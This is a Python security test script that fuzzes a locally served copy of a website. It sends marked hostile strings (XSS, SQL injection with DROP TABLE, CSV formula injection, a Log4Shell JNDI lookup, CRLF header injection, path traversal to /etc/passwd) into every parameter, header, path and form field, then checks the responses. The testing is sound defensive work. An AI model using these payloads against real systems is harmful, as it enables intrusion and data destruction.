"""`make drill-hostile`: a thousand hostile inputs, and what the site made of them.

Each of STRINGS stands in turn in every parameter, path, header and field of a form that a stranger
can send. Wanted: no answer of 500 or more, no header and no markup of theirs, no formula in tables.
"""

import csv
import http.client
import io
import itertools
import os
from collections import Counter
from typing import NamedTuple
from urllib.parse import quote, urlencode

from bench.served import folder, site

MARK = "zqx9"  # stands in every string, so that whatever comes back is known
STRINGS = [
    f"<script>{MARK}()</script>",
    f'"><img src=x onerror={MARK}()>',
    f"' OR '1'='1' -- {MARK}",
    f"'; DROP TABLE wagtailcore_page; -- {MARK}",
    f'=HYPERLINK("http://{MARK}.example")',
    f"+cmd|' /C calc'!A0{MARK}",
    f"@SUM(1+1)*{MARK}",
    f"{{{{7*7}}}}{MARK}{{% debug %}}",
    f"${{jndi:ldap://{MARK}.example/a}}",
    f"a\r\nX-{MARK}: yes\r\n\r\n<p>",
    f"{MARK}\x00after",
    f"{MARK}\ud83d".encode("utf-8", "surrogatepass").decode("latin-1"),
    f"../../../../etc/passwd%00{MARK}",
    f"..\\..\\var\\secret-key{MARK}",
    f"{MARK}" + "A" * 7000,
    f"{MARK}" + "(" * 500 + '"' * 501,
    f"{MARK} NEAR/2 * ^ OR AND NOT -- {{}}",
    f"\u202e{MARK}\u2066\ufeff\u0000",
    f"𝕫{MARK}\u0301" * 40,
    f"9999999999999999999999{MARK}",
    f"javascript:{MARK}()",
    f"//{MARK}.example/",
    f"file:///etc/passwd#{MARK}",
    f"%s%s%n{MARK}%x",
    f'{MARK}[]={{"$gt":""}}',
]
PARAMETERS = {
    "/research/": ["q", "theme", "type", "kind", "partner", "author", "year", "sort", "page"],
    "/research/export.csv": ["q", "author"],
    "/research/feed.atom": ["q", "theme"],
    "/events/": ["theme", "kind", "format", "page"],
    "/events/calendar.ics": ["theme"],
    "/search/": ["q", "type", "page"],
    "/search/suggestions/": ["q"],
    "/suggestions/": ["q", "state", "theme", "sort", "page"],
    "/people/": ["q", "page", "find-author"],
}
PATHS = ["/{}", "/research/{}/", "/documents/1/{}", "/media/images/{}", "/suggestions/track/{}/"]
HEADERS = ["Host", "Referer", "User-Agent", "Accept", "Accept-Language", "Cookie", "Range",
           "If-None-Match", "If-Modified-Since", "X-Forwarded-For", "Accept-Encoding"]  # fmt: skip
FORMS = {"/suggest/": ["question", "email", "name", "shown", "about", "website", "themes"]}


class Sent(NamedTuple):
    method: str
    path: str
    headers: dict[str, str]
    body: str | None = None


def everything() -> list[Sent]:
    sent = []
    for text in STRINGS:
        asked = quote(text, safe="", errors="surrogatepass")
        for path, names in PARAMETERS.items():
            sent += [Sent("GET", f"{path}?{name}={asked}", {}) for name in names]
        sent += [Sent("GET", path.format(asked), {}) for path in PATHS]
        sent += [Sent("GET", "/", {name: in_a_header(text)}) for name in HEADERS]
        for path, names in FORMS.items():
            body = urlencode(dict.fromkeys(names, text), errors="surrogatepass")
            kind = {"Content-Type": "application/x-www-form-urlencoded"}
            sent.append(Sent("POST", path, kind, body))
    return sent


def in_a_header(text: str) -> str:
    return "".join(one if " " <= one <= "~" else "?" for one in text)[:4000]


def ask(port: int, sent: Sent) -> tuple[int, list[tuple[str, str]], bytes]:
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
    try:
        connection.request(sent.method, sent.path, sent.body, sent.headers)
        answer = connection.getresponse()
        return answer.status, answer.getheaders(), answer.read()
    finally:
        connection.close()


def faults(sent: Sent, status: int, headers: list[tuple[str, str]], body: bytes) -> list[str]:
    found = []
    if status >= 500 and status != 503:
        found.append(f"answered {status}")
    if any(name.casefold() == f"x-{MARK}" for name, _ in headers):
        found.append("a header of theirs")
    kind = dict(headers).get("Content-Type", "")
    if any(text.encode() in body for text in STRINGS[:2]) and "html" in kind:
        found.append("markup of theirs")
    if "csv" in kind and any(is_formula(cell) for row in rows(body) for cell in row):
        found.append("a formula in a table")
    if b"root:x:0:0" in body:
        found.append("a file of the machine")
    return found


def rows(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def is_formula(cell: str) -> bool:
    return cell[:1] in "=+@\t\r" and cell != ""


def main() -> None:
    print(f"load of the machine: {os.getloadavg()}", flush=True)
    statuses: Counter[int] = Counter()
    wrong = []
    with folder() as data, site(data) as at:
        for number, sent in enumerate(everything()):
            # Each comes from a network of its own, so that no limit answers in place of the page.
            headers = {"X-Forwarded-For": f"10.{number // 250}.{number % 250}.1"} | sent.headers
            status, said, body = ask(at.port, sent._replace(headers=headers))
            statuses[status] += 1
            wrong += [f"{fault}: {sent.method} {sent.path[:90]} {sent.headers}"
                      for fault in faults(sent, status, said, body)]  # fmt: skip
        still = ask(at.port, Sent("GET", "/", {}))[0]
    print(f"{statuses.total()} hostile inputs; answers: {dict(sorted(statuses.items()))}; "
          f"the home page after: {still}")  # fmt: skip
    for line in itertools.islice(wrong, 20):
        print(line)
    if wrong:
        raise SystemExit(f"the drill failed: {len(wrong)} faults")


if __name__ == "__main__":
    main()
